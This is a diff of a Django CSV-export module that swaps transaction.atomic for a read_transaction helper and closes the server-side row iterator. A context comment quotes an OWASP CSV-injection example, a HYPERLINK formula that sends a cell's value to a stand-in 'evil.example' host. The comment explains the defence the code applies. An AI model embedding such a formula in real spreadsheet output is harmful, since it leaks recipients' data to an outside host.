@@ -6,18 +6,18 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Callable, Iterable, Iterator
-from contextlib import nullcontext
+from contextlib import closing, nullcontext
 from dataclasses import dataclass
 from datetime import date
 from decimal import Decimal
 from itertools import islice
 
-from django.db import connections, models, transaction
+from django.db import DEFAULT_DB_ALIAS, connections, models
 from django.db.models import Expression, F, Func, QuerySet, TextField, Value
 from django.db.models.constants import LOOKUP_SEP
 from django.db.models.functions import Cast
 
-from hope.compiled import Compiled, plan_for_every_row
+from hope.compiled import Compiled, plan_for_every_row, read_transaction
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -165,9 +165,11 @@ class SqlRows:
         # In a transaction, so the server-side cursor is not WITH HOLD (see
         # Compiled.stream, which reads SqlLines the same way).
         lines_query = _csv_line_rows(self.queryset)
-        with transaction.atomic(using=lines_query.db, savepoint=False):
+        with (
+            read_transaction(lines_query.db),
+            closing(lines_query.iterator(chunk_size=size)) as lines,
+        ):
             plan_for_every_row(connections[lines_query.db])
-            lines = lines_query.iterator(chunk_size=size)
             while chunk := list(islice(lines, size)):
                 yield chunk
 
@@ -357,7 +359,7 @@ def csv_blocks(
     buffer.truncate()
     # The parts written by PostgreSQL are read in one transaction (each in a cursor of
     # its own), not one each.
-    with transaction.atomic(savepoint=False) if _any_sql(parts) else nullcontext():
+    with read_transaction(DEFAULT_DB_ALIAS) if _any_sql(parts) else nullcontext():
         yield from _written(head, parts, writer, buffer, rows_per_block)
 
 
